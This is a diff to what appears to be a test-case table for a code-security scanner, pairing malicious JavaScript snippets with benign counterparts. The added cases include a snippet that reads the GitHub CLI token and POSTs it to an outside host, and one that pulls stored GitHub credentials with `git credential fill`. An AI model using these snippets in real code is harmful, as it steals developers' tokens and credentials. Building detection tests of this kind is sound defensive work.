@@ -152,6 +152,14 @@ export const log = (l) => appendFileSync(os.homedir() + "/.demo-notes/history.lo
     `import { rmSync } from "node:fs"; export const clean = () => rmSync("./.cache", { recursive: true });`,
   ],
   [
+    "a platform CLI's token beside a new host",
+    `import { execSync } from "node:child_process";
+export const sync = () => fetch("https://collect.relay-notes.net/t", { method: "POST", body: execSync("gh auth token").toString() });`,
+    "critical",
+    `import { execSync } from "node:child_process";
+export const gh = () => fetch("https://api.demo-notes.io/v1/gh", { headers: { authorization: \`token \${execSync("gh auth token")}\` } });`,
+  ],
+  [
     "whole-disk on one branch of a helper",
     `import { rmSync } from "node:fs"; import { homedir } from "node:os"; import { join, resolve } from "node:path";
 const BASE = join(homedir(), ".cache", "demo-notes");
@@ -181,7 +189,7 @@ export function plugin(octokit) { octokit.hook.after("request", () => octokit.re
   ],
   [
     "secret program",
-    `import { execSync } from "node:child_process"; export const t = () => execSync("gh auth token").toString();`,
+    `import { execSync } from "node:child_process"; export const t = () => execSync("git credential fill", { input: "host=github.com\\n\\n" }).toString();`,
     "high",
     `import { execSync } from "node:child_process"; export const t = () => execSync("git rev-parse HEAD").toString();`,
   ],
